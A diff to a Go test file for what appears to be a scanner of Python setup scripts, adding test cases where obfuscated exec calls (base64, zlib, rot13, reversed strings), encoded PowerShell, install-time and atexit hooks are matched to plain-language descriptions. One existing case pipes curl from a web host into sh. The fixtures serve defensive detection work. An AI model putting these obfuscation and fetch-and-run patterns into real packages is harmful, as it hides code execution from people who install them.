@@ -22,7 +22,18 @@ func scan(src string) string {
 
 // TestHooks: what is a hook, and in which words.
 func TestHooks(t *testing.T) {
+	hidden := "runs code that is hidden in an encoded text, with exec, when the script is read"
 	for src, want := range map[string]string{
+		"exec(''.join(map(chr, [112, 114])))":                                                          hidden,
+		"exec(bytes([112, 114]).decode())":                                                             hidden,
+		"exec(')1(tnirp'[::-1])":                                                                       hidden,
+		"exec(__import__('base64').b64decode('cHJpbnQoMSk='))":                                         hidden,
+		"_ = lambda __: __import__('zlib').decompress(__[::-1])\nexec((_)(b'x'))":                      hidden,
+		"import codecs\nexec(codecs.decode('cevag', 'rot13'))":                                         hidden,
+		"from os import system as _s\n_s(f'start {x}')":                                                "runs start with os.system, when the script is read",
+		"import subprocess\nsubprocess.Popen(['powershell', '-EncodedCommand', 'x'])":                  "runs powershell with subprocess.Popen, which can fetch and run anything, when the script is read",
+		"import os\nclass P:\n  def run(self): os.system('id')\nsetup(cmdclass={'install': P})":        "runs id with os.system, in the class P",
+		"import atexit, os\ndef f(): os.system('id')\natexit.register(f)":                              "runs id with os.system, in the function f",
 		"import os\nos.system('curl https://x.example.org | sh')":                                      "runs curl with os.system, which can fetch and run anything, when the script is read",
 		"from subprocess import check_call as c\nc(['make', 'all'])":                                   "runs make with subprocess.check_call, when the script is read",
 		"import subprocess as sp\nv = sp.check_output(['git', 'describe', '--tags']).decode()":         "runs git describe with subprocess.check_output, which asks the repository and changes nothing, when the script is read",
